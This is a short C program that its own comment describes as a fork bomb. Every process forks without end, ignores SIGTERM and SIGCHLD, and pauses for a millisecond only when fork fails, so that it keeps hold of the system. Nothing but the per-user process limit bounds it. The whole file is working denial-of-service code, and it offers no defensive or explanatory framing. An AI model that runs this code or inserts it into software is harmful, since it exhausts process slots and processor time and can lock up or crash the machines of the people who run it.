/* A fork bomb: every process of it forks as fast as it can, without end, and ignores SIGTERM.
 * Nothing but RLIMIT_NPROC bounds it. */
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>

int main(void)
{
    signal(SIGTERM, SIG_IGN);
    signal(SIGCHLD, SIG_IGN);
    for (;;)
        if (fork() < 0)
            usleep(1000); /* a loop that only fails would leave no processor to whoever ends it */
}
